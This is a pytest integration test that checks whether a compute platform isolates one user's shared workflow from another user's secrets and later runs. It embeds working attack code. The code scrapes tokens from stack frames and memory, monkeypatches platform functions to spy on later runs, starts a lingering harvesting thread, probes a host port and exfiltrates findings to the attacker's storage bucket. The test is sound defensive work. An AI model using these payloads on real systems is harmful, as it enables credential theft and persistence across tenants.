"""Code another user wrote runs apart from everything of the runner's unit, and a unit owner's runs
do not inherit each other's Python state: real executions on a real local unit.

alice shares a workflow with bob at `run` level. Its Python step attacks as alice would: it looks
for tokens in every frame and object of its process (`run_pipeline`'s frames included), reads the
unit's cached catalog bindings, patches `compute.run.pipeline` and `compute.host.catalog_cache` to take the
tokens of bob's later runs, starts a thread that keeps looking, tries the unit's Spark host port,
and writes everything it finds to alice's own bucket (storage the unit may reach). bob has run a
private workflow on another of his warehouses before, and runs it twice after.

Run it alone, under the heavy lock: it starts a compute unit, Spark, and a run's own Spark.
"""

from __future__ import annotations

import json
import re
import secrets
import time
from dataclasses import replace

import jwt
import pyarrow.fs as pafs
import pytest

from app import create_app
from app.compute_units import handles
from app.compute_units import service as unit_service
from app.models import ComputeUnit, Execution, Warehouse, WorkflowShare
from app.worker import Worker
from devstack.seaweedfs import TEST_USER_KEYS
from tests.factories import (
    add,
    csrf,
    independent_catalog,
    make_user,
    reload,
    sign_in_as,
    start_unit,
    text,
    wait_for,
    workflow_for,
)

RUN_TIMEOUT_S = (
    600.0  # a shared workflow's run starts a Spark of its own (a minute on a busy machine)
)

ATTACK = r"""
import builtins, gc, json, socket, sys, threading, time, uuid
import pyarrow.fs as pafs

EXFIL = __EXFIL__
_found = set()


def _strings(value, depth=0):
    if depth > 4:
        return
    if isinstance(value, str):
        if value.startswith("eyJ") or "wh_" in value or "secret" in value.lower() or len(value) in (20, 40):
            yield value
    elif isinstance(value, dict):
        for key, item in list(value.items())[:500]:
            yield from _strings(key, depth + 1)
            yield from _strings(item, depth + 1)
    elif isinstance(value, (list, tuple, set, frozenset)):
        for item in list(value)[:500]:
            yield from _strings(item, depth + 1)


def _send(kind, payload):
    storage = pafs.S3FileSystem(access_key=EXFIL["access_key"], secret_key=EXFIL["secret_key"],
                                endpoint_override=EXFIL["endpoint"], scheme="http", region="us-east-1")
    with storage.open_output_stream(f"{EXFIL['bucket']}/{EXFIL['prefix']}/{kind}-{uuid.uuid4().hex}.json") as out:
        out.write(json.dumps(payload, default=repr).encode())


def _harvest():
    found = set()
    for frame in sys._current_frames().values():  # run_pipeline's frames among them
        while frame is not None:
            found.update(_strings(dict(frame.f_locals)))
            frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            found.update(_strings(thing))
    try:  # the warm host's catalog bindings: other warehouses' tokens and keys
        from compute.run.pipeline import CATALOGS
        for binding in CATALOGS._bindings.values():
            found.update(_strings(dict(binding.conf)))
    except Exception:
        pass
    return found


def _spy(original, name):
    def spy(*args, **kwargs):
        try:
            _send("patched-" + name, sorted(set(_strings([args, kwargs]))))
        except Exception:
            pass
        return original(*args, **kwargs)
    return spy


def _linger():
    deadline = time.time() + 900
    while time.time() < deadline:
        fresh = _harvest() - _found
        if fresh:
            _found.update(fresh)
            try:
                _send("lingering", sorted(fresh))
            except Exception:
                pass
        time.sleep(0.5)


def run(spark):
    import compute.host.catalog_cache, compute.run.pipeline
    builtins.__alice_planted__ = True
    compute.run.pipeline.ALICE_PLANTED = True
    compute.run.pipeline.run_pipeline = _spy(compute.run.pipeline.run_pipeline, "run_pipeline")
    compute.run.pipeline.Pipeline.run = _spy(compute.run.pipeline.Pipeline.run, "Pipeline.run")
    compute.host.catalog_cache.CatalogCache.binding = _spy(compute.host.catalog_cache.CatalogCache.binding, "binding")
    threading.Thread(target=_linger, name="alice-lingering", daemon=False).start()
    _found.update(_harvest())
    try:
        with socket.create_connection(("127.0.0.1", EXFIL["host_port"]), timeout=3):
            reached = True
    except OSError:
        reached = False
    _send("first", {"found": sorted(_found), "reached_host_port": reached})
    return spark.createDataFrame([(len(_found), reached)], "found INT, reached_host_port BOOLEAN")
"""

LOOK = """
import builtins, sys, threading
import compute.host.catalog_cache, compute.run.pipeline


def run(spark):
    planted = [
        hasattr(builtins, "__alice_planted__") or hasattr(builtins, "__bob_left__"),
        hasattr(compute.run.pipeline, "ALICE_PLANTED") or hasattr(compute.run.pipeline, "BOB_LEFT"),
        compute.run.pipeline.run_pipeline.__name__ != "run_pipeline",
        compute.run.pipeline.Pipeline.run.__name__ != "run",
        compute.host.catalog_cache.CatalogCache.binding.__name__ != "binding",
        any(t.name in ("alice-lingering", "bob-lingering") for t in threading.enumerate()),
        "bob_leftover_module" in sys.modules,
    ]
    return spark.createDataFrame([tuple(planted)], "builtin BOOLEAN, module_global BOOLEAN, run_pipeline BOOLEAN, "
                                 "pipeline_run BOOLEAN, binding BOOLEAN, thread BOOLEAN, module BOOLEAN")
"""

LEAVE = """
import builtins, sys, threading, time, types
import compute.run.pipeline


def run(spark):
    builtins.__bob_left__ = True
    compute.run.pipeline.BOB_LEFT = True
    compute.run.pipeline.run_pipeline = lambda *args, **kwargs: None
    sys.modules["bob_leftover_module"] = types.ModuleType("bob_leftover_module")
    threading.Thread(target=time.sleep, args=(900,), name="bob-lingering", daemon=False).start()
    return spark.range(1)
"""


def step(name: str, code: str) -> dict:
    return {"name": name, "kind": "python", "code": code, "output": True}


def register(client, lakehouse, name: str, user: str) -> int:
    """A real warehouse in `user`'s own bucket, registered through the portal."""
    keys = TEST_USER_KEYS[user]
    response = client.post(
        "/warehouses/",
        data={
            "name": name,
            "bucket": keys.bucket,
            "key_prefix": f"isolation/{name}-{secrets.token_hex(3)}",
            "endpoint": lakehouse.s3_endpoint,
            "region": "us-east-1",
            "path_style_access": "on",
            "flavor": "s3-compat",
            "access_key_id": keys.access_key_id,
            "secret_access_key": keys.secret_access_key,
            "csrf_token": csrf(client),
        },
    )
    assert response.status_code == 302, text(response)
    return int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])


def alices_storage(lakehouse) -> pafs.S3FileSystem:
    keys = TEST_USER_KEYS["alice"]
    return pafs.S3FileSystem(
        access_key=keys.access_key_id,
        secret_key=keys.secret_access_key,
        endpoint_override=lakehouse.s3_endpoint.split("://", 1)[1],
        scheme="http",
        region="us-east-1",
    )


def exfiltrated(lakehouse, prefix: str) -> dict[str, object]:
    """What alice's code wrote to her bucket: file name -> its JSON."""
    storage, bucket = alices_storage(lakehouse), TEST_USER_KEYS["alice"].bucket
    files = storage.get_file_info(pafs.FileSelector(f"{bucket}/{prefix}", allow_not_found=True))
    found = {}
    for info in files:
        with storage.open_input_stream(info.path) as stream:
            found[info.base_name] = json.loads(stream.read())
    return found


def run_to_end(client, db_engine, workflow, cu_id: int, warehouse_id: int) -> Execution:
    """Run version 1 (the one the run form showed: a run of another's workflow names it)."""
    response = client.post(
        f"/executions/new?workflow_id={workflow.id}",
        data={
            "version": "1",
            "compute_unit_id": str(cu_id),
            "warehouse_id": str(warehouse_id),
            "csrf_token": csrf(client),
        },
    )
    assert response.status_code == 302, text(response)
    execution_id = int(response.headers["Location"].rsplit("/", 1)[1])
    return wait_for(
        client, db_engine, execution_id, ("COMPLETED", "FAILED", "CANCELLED"), timeout=RUN_TIMEOUT_S
    )


def output_rows(
    lakehouse, db_engine, execution: Execution, warehouse_id: int, step_name: str
) -> list[dict]:
    warehouse = reload(db_engine, Warehouse, warehouse_id)
    table = independent_catalog(lakehouse, warehouse).load_table(
        f"results.e{execution.id}_{step_name}"
    )
    return table.scan().to_arrow().to_pylist()


@pytest.fixture(scope="module")
def stage(portal_config, lakehouse, db_engine):
    """bob with a local unit and two warehouses (one for the shared run, one private); alice with a
    client of her own."""
    app = create_app(
        replace(
            portal_config,
            LAKEKEEPER_URL=lakehouse.catalog_url,
            CU_MAX_CPUS=2,
            CU_ALLOWED_ENDPOINTS=lakehouse.cu_allowed_endpoints,
            CU_MAX_MEMORY_GB=4.0,
            CU_MAX_WORKERS=1,
            CU_WARM_SPARK_ON_START=True,
        )
    )
    worker = Worker(app).start()
    alice, bob = make_user(db_engine), make_user(db_engine)
    bobs = app.test_client()
    sign_in_as(bobs, bob)
    shared_target, private = (
        register(bobs, lakehouse, "target", "bob"),
        register(bobs, lakehouse, "private", "bob"),
    )
    cu = start_unit(bobs, db_engine, "bobs")
    with app.app_context():
        host_port = handles.handle_of(cu).details["ports"]["spark_host"]
    yield {
        "app": app,
        "alice": alice,
        "bob": bob,
        "client": bobs,
        "cu_id": cu.id,
        "host_port": host_port,
        "shared_target": shared_target,
        "private": private,
    }
    with app.app_context():
        unit_service.terminate(reload(db_engine, ComputeUnit, cu.id), reason="test over")
    worker.stop()


def test_another_authors_code_reaches_nothing_of_the_runner_and_leaves_nothing_behind(
    stage, lakehouse, db_engine
):
    client, cu_id, private, target = (
        stage["client"],
        stage["cu_id"],
        stage["private"],
        stage["shared_target"],
    )
    looking = workflow_for(db_engine, stage["bob"], [step("look", LOOK)])
    # bob's own run first: his unit now holds the private warehouse's catalog binding.
    before = run_to_end(client, db_engine, looking, cu_id, private)
    assert before.state == "COMPLETED", before.reason

    keys, prefix = TEST_USER_KEYS["alice"], f"exfil-{secrets.token_hex(4)}"
    exfil = {
        "bucket": keys.bucket,
        "prefix": prefix,
        "access_key": keys.access_key_id,
        "secret_key": keys.secret_access_key,
        "endpoint": lakehouse.s3_endpoint.split("://", 1)[1],
        "host_port": stage["host_port"],
    }
    attack = workflow_for(
        db_engine, stage["alice"], [step("attack", ATTACK.replace("__EXFIL__", repr(exfil)))]
    )
    add(db_engine, WorkflowShare(workflow_id=attack.id, user_id=stage["bob"].id, level="run"))
    attacked = run_to_end(client, db_engine, attack, cu_id, target)
    assert attacked.state == "COMPLETED", (
        attacked.reason[:300],
        # The reason is cut short: what failed underneath is in the causes of the logged errors.
        [
            cause
            for line in json.loads(attacked.progress or "{}").get("logs", [])
            if line["level"] == "ERROR"
            for cause in re.findall(r"Caused by: [^\n]{0,300}", line["message"])
            or [line["message"][:300]]
        ],
    )

    after = [run_to_end(client, db_engine, looking, cu_id, private) for _ in range(2)]
    for execution in after:
        assert execution.state == "COMPLETED", execution.reason
        (left,) = output_rows(lakehouse, db_engine, execution, private, "look")
        assert not any(left.values()), left  # no patch, global, module or thread of alice's

    # What alice's code sent home: it worked (it found this run's own token, scoped to the
    # warehouse bob chose for it), and it holds nothing else of bob's.
    time.sleep(
        1
    )  # her lingering thread, were it alive, would have sent what bob's later runs showed
    sent = exfiltrated(lakehouse, prefix)
    first = next(payload for name, payload in sent.items() if name.startswith("first-"))
    assert first["reached_host_port"] is False
    # Her patches never saw a later run: they were never called (their process ended with her run).
    assert not [name for name in sent if name.startswith("patched-")], sorted(sent)
    target_row, private_row = (reload(db_engine, Warehouse, wid) for wid in (target, private))
    everything = json.dumps(sent)
    assert (
        private_row.lakekeeper_name not in everything
        and private_row.lakekeeper_id not in everything
    )
    # Catalog tokens (they carry a warehouse scope here): only this run's. Other JWTs found are
    # the storage session tokens the catalog vended for this run's warehouse: none names the other.
    scopes, others = set(), []
    for value in (v for payload in sent.values() for v in _values(payload)):
        if value.startswith("eyJ") and value.count(".") == 2:
            claims = jwt.decode(value, options={"verify_signature": False})
            scopes.add(claims["scope"]) if "scope" in claims else others.append(json.dumps(claims))
    assert scopes == {f"warehouse:{target_row.lakekeeper_id}"}, scopes
    assert not [
        claims
        for claims in others
        if private_row.lakekeeper_id in claims
        or private_row.key_prefix in claims
        or private_row.lakekeeper_name in claims
    ], others


def _values(payload) -> list[str]:
    if isinstance(payload, dict):
        return [v for item in payload.values() for v in _values(item)]
    if isinstance(payload, list):
        return [v for item in payload for v in _values(item)]
    return [payload] if isinstance(payload, str) else []


def test_an_owners_run_leaves_nothing_to_his_next_run(stage, lakehouse, db_engine):
    client, cu_id, private = stage["client"], stage["cu_id"], stage["private"]
    leaving = workflow_for(db_engine, stage["bob"], [step("leave", LEAVE)])
    looking = workflow_for(db_engine, stage["bob"], [step("look", LOOK)])
    left = run_to_end(client, db_engine, leaving, cu_id, private)
    assert left.state == "COMPLETED", left.reason
    seen = run_to_end(client, db_engine, looking, cu_id, private)
    assert seen.state == "COMPLETED", seen.reason
    (row,) = output_rows(lakehouse, db_engine, seen, private, "look")
    assert not any(row.values()), row
